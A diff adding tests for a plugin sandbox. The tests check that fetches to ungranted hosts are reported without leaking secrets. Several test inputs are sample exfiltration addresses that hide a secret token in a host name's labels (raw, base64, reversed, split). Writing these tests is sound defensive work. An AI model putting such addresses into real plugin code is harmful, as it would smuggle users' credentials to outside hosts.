@@ -135,6 +135,56 @@ test.each([
   expect(kept).not.toContain("s3cret");
 });
 
+describe("a host that was not granted", () => {
+  const TOKEN = "Sesame-77";
+  const settings = {
+    type: "object",
+    properties: {
+      token: { type: "string", title: "Token", writeOnly: true },
+      where: { type: "string", title: "Where", default: "" },
+    },
+    additionalProperties: false,
+  };
+  const http = { hosts: ["api.example.com"], methods: ["GET"], reason: "to ask" };
+
+  async function toldOf(address: string, values: object): Promise<string> {
+    const source = `export const routes = { async go(input, ctx) { await fetch(${address}); return { body: 1 }; } };`;
+    const wanted = { contributes: { ...routes("member"), settings }, capabilities: { http } };
+    const owner = await aSiteWith(source, wanted);
+    await done(await callApi(owner, "PUT", `/api/plugins/${PLUGIN}/settings`, { ifMatch: 0, body: { values } }));
+    await visit(owner, "/go", { headers: { cookie: owner.cookie } });
+    return JSON.stringify(await reportsOf(owner));
+  }
+
+  test.each([
+    ["that the code writes out", '"https://tiles.example.com/x?" + ctx.settings.token', { token: TOKEN }],
+    ["that a plain setting names", "`https://${ctx.settings.where}/`", { token: TOKEN, where: "tiles.example.com" }],
+    ["that was made, with no secret set", '`https://${["tiles"].join()}.example.com/`', {}],
+  ])("%s is named", async (_, address, values) => {
+    expect(await toldOf(address, values)).toContain("The host tiles.example.com was not granted.");
+  });
+
+  test.each([
+    ["as it is", "`https://${ctx.settings.token}.example.com/`", TOKEN],
+    ["before a host of the code", '`https://${ctx.settings.token}-` + "tiles.example.com/"', TOKEN],
+    ["below a host of the code", '`https://${ctx.settings.token}.` + "tiles.example.com/"', TOKEN],
+    ["in other letters", "`https://${btoa(ctx.settings.token).replaceAll('=', '')}.example.com/`", TOKEN],
+    ["turned around", "`https://${[...ctx.settings.token].toReversed().join('')}.example.com/`", TOKEN],
+    ["in two labels", "`https://${ctx.settings.token.replace('-', '.')}.example.com/`", TOKEN],
+    [
+      "as one of two hosts of the code",
+      '"https://" + ["east.example.com", "west.example.com"].find((one) => one.startsWith(ctx.settings.token)) + "/"',
+      "east",
+    ],
+  ])("that holds a secret %s is not (attack 121)", async (_, address, token) => {
+    const told = await toldOf(address, { token });
+    expect(told).toContain("This host was not granted. Its name is not shown");
+    expect(told).toContain('"file":"main.js","line":1');
+    for (const shown of [token, btoa(token).replaceAll("=", ""), [...token].toReversed().join(""), "sesame", "77"])
+      expect(told.toLowerCase()).not.toContain(shown.toLowerCase());
+  });
+});
+
 describe("text of unlimited length", () => {
   test.each([
     ["a message of 5 MB", "throw new Error('x'.repeat(5e6));"],
